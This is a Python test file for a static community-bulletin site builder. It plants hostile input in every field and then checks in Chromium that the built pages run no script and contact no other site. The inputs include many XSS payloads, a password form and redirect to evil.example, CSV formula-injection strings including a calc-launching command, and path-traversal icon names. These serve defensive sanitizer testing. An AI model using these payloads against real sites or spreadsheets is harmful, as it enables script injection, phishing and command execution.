"""Hostile input against the built example site (issue 11): script in every field,
heading, topics.yml entry, mkdocs.yml setting and body. Every built page is
loaded in Chromium: no dialog, no navigation, no request to another origin, and
the hostile text is shown as text. `儿童<6岁、体温>38℃` survives everywhere."""
from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
from browser import browser, needs_chromium, serve_dir
from conftest import TODAY

ISSUE = "bulletins/2026/2026-11.md"
PAST = "bulletins/2026/2026-11-07-fire-drill.md"
UPCOMING = "bulletins/2026/2026-12-05-winter-gas-electric-safety.md"
LT = "儿童<6岁、体温>38℃"

TITLE = "<img src=x onerror=alert(1)> & *重要* [链接](javascript:alert(2)) &amp; ]]></title><script>alert(3)</script>"
SUMMARY = "\"><script>alert(4)</script>' onmouseover='alert(5) {: onclick=\"alert(6)\"}"
HEADING = "<img src=x onerror=alert(7)> *重要* [链接](javascript:alert(8)) `码` {: onclick=alert(9)}"
TOPIC_NAME = "<img src=x onerror=alert('topic')>危&险"
TOPIC_DESC = "\"><script>alert(10)</script> *星* [x](javascript:alert(11)) </svg><svg onload=alert(12)>"
ACT_TITLE = "=HYPERLINK(\"https://evil.example/\",\"点我\") <img src=x onerror=alert(13)>"
ACT_LOCATION = LT + " 活动室 \"><svg onload=alert(14)>"
UP_TITLE = LT + " 讲座 </script><script>alert(15)</script> ]]>"
SITE_NAME = "桂园<img src=x onerror=alert(16)>社区 & \"科普\""
COMMUNITY = "桂园</script><script>alert(17)</script>社区"

BODY = f"""{LT} 要就医。<b>加粗</b> *强调*

<scr<script></script>ipt>alert(20)</scr<script></script>ipt>

<svg onload=alert(21)><circle r=5></circle></svg>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

[点我](javascript:alert(22)) [大小写](JaVaScRiPt:alert(23)) [实体](&#106;avascript:alert(24)) [控制](java&#x09;script:alert(25)) [数据](data:text/html,<script>alert(26)</script>)

<a href="javascript:alert(27)">html 链接</a> <a href="&#106;avascript:alert(28)">实体链接</a> <a href=" JaVaScRiPt:alert(29)">空格</a>

<style>body{{display:none}}</style>

<form action="https://evil.example/"><input type="password" name="p"></form>

<video src="https://evil.example/v.mp4"></video>

<img src=images/2026-11-07-fire-drill.jpg onerror=alert(30)> <div style="position:fixed;inset:0;background:#fff">遮挡</div>

<iframe src="https://evil.example/"></iframe> <object data="https://evil.example/x.swf"></object>

段落 {{: onclick="alert(31)" }}

<img alt="[t](<x onerror=alert(32) y>)" src=images/2026-11-07-fire-drill.jpg>

<div markdown="1">`</div><script>alert(33)</script>`</div>

[参考][evil]

[evil]: javascript:alert(34)

<details markdown="1">
<summary>更多</summary>

保留的 **详情**

</details>

| 表 | 格 |
|---|---|
| <sup>上</sup> | <sub>下</sub><br>换行 |

<!--kepu:html <svg onload=alert(35)></svg> -->

伪造 <!--kepu:html <script>alert(36)</script> --> 标记

```text
<!--kepu:html <b>代码里的标记</b> -->
```
"""


def hostile_site(root: Path) -> None:
    editor = SUMMARY.replace('"', '\\"')
    (root / ISSUE).write_text(f"""---
title: '{TITLE.replace("'", "''")}'
editors: ["<b>编辑</b>", "{editor}"]
summary: '{SUMMARY.replace("'", "''")}'
---
导语 {LT}。<script>alert(40)</script>

## 【健康】{HEADING}

{BODY}

## 【坏】普通标题

{LT} 第二块展板。
""", encoding="utf-8")
    (root / PAST).write_text(f"""---
title: '{ACT_TITLE.replace("'", "''")}'
location: '{ACT_LOCATION.replace("'", "''")}'
topics: [安全, 坏]
time: "09:30-11:00"
organizer: "<script>alert(41)</script>"
partners: ["]]><x>", "&amp; & <b>"]
---
{LT} 要就医。<img src=images/2026-11-07-fire-drill.jpg onerror=alert(42)>
""", encoding="utf-8")
    (root / UPCOMING).write_text(f"""---
title: '{UP_TITLE.replace("'", "''")}'
location: "+cmd|' /C calc'!A0"
topics: [用电安全]
time: "14:30-16:00"
organizer: '@SUM(1+1)'
---
{LT} 的孩子家长请注意。<svg onload=alert(43)>
""", encoding="utf-8")
    topics = root / "bulletins" / "topics.yml"
    topics.write_text(topics.read_text(encoding="utf-8") + f"""
- id: hostile
  name: "{TOPIC_NAME}"
  aliases: [坏]
  icon: material/tag
  color: "#123456"
  description: '{TOPIC_DESC.replace("'", "''")}'
""", encoding="utf-8")
    yml = root / "mkdocs.yml"
    text = yml.read_text(encoding="utf-8")
    text = text.replace("site_name: 桂园社区科普橱窗", f"site_name: '{SITE_NAME}'")
    text = text.replace("    name: 桂园社区\n", f"    name: '{COMMUNITY}'\n")
    text = text.replace("    contact: 社区居委会 0571-8800 0000", "    contact: '=1+1 \"><svg onload=alert(18)>'")
    text = text.replace("    title: 桂园社区科普橱窗", "    title: '</title><script>alert(19)</script>'")
    yml.write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from sitecopy import copy_site

    from kepu.build import build
    from kepu.content.loader import load_site

    root = copy_site(tmp_path_factory.mktemp("hostile"))
    hostile_site(root)
    result = load_site(root, today=TODAY)
    assert not result.problems.errors, [p.format() for p in result.problems.errors]
    assert build(root, today=TODAY) == 0
    return root, [p.format() for p in result.problems.sorted()]


def test_check_reports_every_removal_at_its_line(hostile):
    _, problems = hostile
    lines = (Path(hostile[0]) / ISSUE).read_text(encoding="utf-8").split("\n")

    def line_of(needle):
        return next(n for n, ln in enumerate(lines, 1) if needle in ln)

    def warned(needle, at):
        hits = [p for p in problems if p.startswith(f"{ISSUE}:{at}: 警告") and needle in p]
        assert hits, f"no warning with {needle!r} at line {at}: {[p for p in problems if ISSUE in p]}"

    warned("<scr<script>", line_of("<scr<script>"))
    warned("<svg>", line_of("<svg onload"))
    warned("<meta>", line_of("<meta http-equiv"))
    warned("javascript:alert(22)", line_of("[点我]"))
    warned("JaVaScRiPt:alert(23)", line_of("[点我]"))
    warned("href=", line_of("html 链接"))
    warned("<style>", line_of("<style>"))
    warned("<input>", line_of("<form"))
    warned("https://evil.example/v.mp4", line_of("<video"))
    warned("onerror=", line_of("<img src=images/2026-11-07-fire-drill.jpg onerror=alert(30)>"))
    warned("style 属性", line_of("position:fixed"))
    warned("<iframe>", line_of("<iframe"))
    warned("属性写法", line_of("段落 {: onclick"))
    warned("javascript:alert(34)", line_of("[evil]: javascript"))
    warned("<script>", line_of("导语"))
    kept = ("<details>", "<summary>", "<sup>", "<sub>", "<br>", "<b>", "<table>", "<div>")
    assert not [p for p in problems if any(f"内容：{k}" in p for k in kept)]


def _texts(page, selector):
    return [t.replace("\u200b", "") for t in page.locator(selector).all_inner_texts()]


@needs_chromium
def test_every_built_page_runs_no_script_and_asks_no_other_site(hostile):
    root, _ = hostile
    site = root / "site"
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    # /admin/ is the form editor: a script page with no volunteer content in it (tests/test_admin_browser.py
    # checks it asks no other site)
    pages = [p for p in pages if not p.startswith("admin/")]
    assert len(pages) > 40
    with serve_dir(site, prefix="/kepu/") as base, browser() as b:
        origin = base.split("/kepu/")[0]
        ctx = b.new_context()
        dialogs, foreign, navigations = [], [], []
        ctx.route("**/*", lambda r: (foreign.append(r.request.url), r.abort()) if not r.request.url.startswith(origin)
                  else r.continue_())
        page = ctx.new_page()
        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
        for rel in pages:
            url = base + rel
            page.goto(url, wait_until="load")
            page.wait_for_timeout(30)
            if page.url.split("#")[0] != url:
                navigations.append(f"{url} -> {page.url}")
            bad = page.evaluate("""() => {
              const out = [];
              // where volunteer content goes: Material's content, print sheets, screen slides
              const roots = [...document.querySelectorAll('.md-content, .sheet, #slides')];
              for (const el of roots.flatMap(r => [...r.querySelectorAll('*')])) {
                for (const a of el.attributes) {
                  const v = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
                  if (a.name.startsWith('on') && !(el.tagName === 'BUTTON' && a.value === 'window.print()')) out.push(el.tagName + ' ' + a.name);
                  if (/^(javascript|vbscript|data):/.test(v) && (a.name === 'href' || a.name === 'src')) out.push(el.tagName + ' ' + a.name + '=' + a.value);
                  if (a.name === 'style' && /position\\s*:\\s*fixed/.test(a.value)) out.push('fixed ' + el.tagName);
                }
              }
              // kepu's own search form on /search/ is the only form allowed in the content
              for (const s of ['iframe', 'object', 'embed', 'form:not(.kp-search-page__form)', 'input[type=password]', 'style', 'script']) {
                if (roots.some(r => r.querySelector(s))) out.push(s);  // Material's own search form sits outside
              }
              for (const s of ['meta[http-equiv]', 'base', 'input[type=password]', 'iframe']) {
                if (document.querySelector(s)) out.push(s);
              }
              if (!roots.length) out.push('no content found');
              if (getComputedStyle(document.body).display === 'none') out.push('hidden body');
              return out;
            }""")
            assert bad == [], f"{rel}: {bad}"
        # the hostile text is shown as text
        page.goto(base + "2026/11/")
        assert _texts(page, "article h1") == [TITLE]
        assert page.title().startswith(TITLE)
        assert HEADING in _texts(page, "article h2")
        assert any(LT in t for t in _texts(page, "article .kp-panel p"))
        assert page.locator("article details summary").inner_text() == "更多"
        assert page.locator("article .kp-panel table sup").inner_text() == "上"
        assert page.locator("meta[name=description]").get_attribute("content") == SUMMARY
        assert SITE_NAME in page.locator(".md-header__topic").first.inner_text()
        assert COMMUNITY in page.locator(".md-copyright").inner_text()
        page.goto(base + "current/")
        assert _texts(page, "article h1") == [TITLE]
        page.goto(base)
        assert _texts(page, ".kp-feature__title") == [TITLE]
        assert any(t.startswith(LT) for t in _texts(page, ".kp-panel-card__text"))
        assert any(TOPIC_NAME in t for t in _texts(page, ".kp-topic b"))
        page.goto(base + "topics/hostile/")
        assert TOPIC_NAME in _texts(page, "article h1")[0]
        assert any(TOPIC_DESC in t for t in _texts(page, "article p"))
        page.goto(base + "2026/11/07-fire-drill/")
        assert _texts(page, "article h1") == [ACT_TITLE]
        assert ACT_LOCATION in page.locator(".kp-info").inner_text()
        page.goto(base + "stats/2026/")
        assert ACT_TITLE in page.locator("article").inner_text()
        page.clock.set_fixed_time("2026-11-29T10:00:00+08:00")  # daytime: slides, not the night clock
        page.goto(base + "screen/?night=off")
        shown = []
        for _ in range(8):
            shown.append(page.locator("#slides .slide.on").inner_text())
            page.keyboard.press("ArrowRight")
            page.wait_for_timeout(700)
        assert sum(LT in t for t in shown) >= 2, shown  # a panel and the upcoming talk
        assert any(TITLE[:20] in t for t in shown), shown
        ctx.close()
    assert dialogs == []
    assert foreign == []
    assert navigations == []


def test_less_than_and_greater_than_survive_in_every_view(hostile):
    root, _ = hostile
    site = root / "site"
    # slides: the data the lobby screen shows
    page = (site / "screen" / "index.html").read_text(encoding="utf-8")
    data = json.loads(re.search(r'id="kepu-screen-data">(.*?)</script>', page, re.S).group(1))
    assert any(LT in s["text"] for s in data["slides"] if s["kind"] == "panel")
    assert any(s["title"].startswith(LT) for s in data["slides"] if s["kind"] == "upcoming")
    assert "</script><script>alert" not in page
    assert any(s["text"].startswith(SUMMARY[:28]) for s in data["slides"] if s["kind"] == "issue")  # shown as written
    # feed
    import feedparser

    feed = feedparser.parse((site / "feed.xml").read_bytes())
    assert not feed.bozo
    act = next(e for e in feed.entries if "HYPERLINK" in e.title)
    assert LT in html.unescape(act.summary.replace("\u200b", ""))
    assert "<img src=x" in act.title
    # calendar
    import icalendar

    cal = icalendar.Calendar.from_ical((site / "calendar.ics").read_bytes())
    summaries = [str(ev.get("summary")) for ev in cal.walk("VEVENT")]
    assert UP_TITLE in summaries
    # CSV: the text is there, no cell is a formula
    rows = list(csv.reader(io.StringIO((site / "stats" / "2026" / "kepu-stats-2026.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + ACT_TITLE in cells
    assert ACT_LOCATION in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # search
    meta = json.loads((site / "search" / "meta.json").read_text(encoding="utf-8"))
    docs = [json.loads(p.read_text(encoding="utf-8")) for p in sorted((site / "search" / meta["v"]).glob("d*.json"))]
    texts = [d["x"] for d in docs]  # plain text: search.js inserts it as text nodes, never as HTML
    titles = [d["t"] for d in docs]
    assert any(LT in t for t in texts)
    assert TITLE in titles and TOPIC_NAME in titles
    # generated Markdown holds no raw tag of the volunteer's
    md = (root / "docs" / "2026" / "11" / "index.md").read_text(encoding="utf-8").split("\n---\n", 1)[1]
    assert "<img src=x" not in md and "<script" not in md.lower() and "<svg onload" not in md.lower()
    assert not re.search(r"\]\(\s*javascript:|href=\"\s*javascript:", md, re.I)  # as text it may stay


def test_a_volunteer_cannot_forge_kepus_html_mark(hostile):
    """kepu's HTML blocks pass the engine in <!--kepu:html … --> comments that engine/unwrap.py
    turns back into HTML: a volunteer's comment is removed by the sanitizer, in code it stays text."""
    root, _ = hostile
    site = root / "site"
    pages = list(site.rglob("*.html"))
    assert not [p for p in pages if b"<!--kepu:html" in p.read_bytes()]
    page = (site / "2026" / "11" / "index.html").read_text(encoding="utf-8")
    assert "alert(35)" not in page and "alert(36)" not in page
    assert "伪造  标记" in page
    assert "&lt;!--kepu:html &lt;b&gt;代码里的标记&lt;/b&gt; --&gt;" in page  # shown as written, in a code block


def test_icon_must_be_a_name_not_a_path(site):
    (site.root / "evil.svg").write_text('<svg onload="alert(1)"></svg>', encoding="utf-8")
    topics = site.root / "bulletins" / "topics.yml"
    base = topics.read_text(encoding="utf-8")
    for icon in ("../../evil", str(site.root / "evil"), "material/../../../evil", "https://evil.example/x",
                 "material/heart-pulse.svg", "MATERIAL/Heart"):
        topics.write_text(base.replace("icon: material/heart-pulse", f"icon: '{icon}'", 1), encoding="utf-8")
        line = next(n for n, ln in enumerate(topics.read_text(encoding="utf-8").split("\n"), 1) if "icon: '" in ln)
        errors = site.errors()
        assert [e for e in errors if e.startswith(f"bulletins/topics.yml:{line}: 错误") and "图标" in e], (icon, errors)
        assert site.load().site.topics["health"].icon == "material/tag"
    from kepu.content.topics import icon_svg

    assert icon_svg("../../evil") == "" and icon_svg("material/heart-pulse").startswith("<svg")
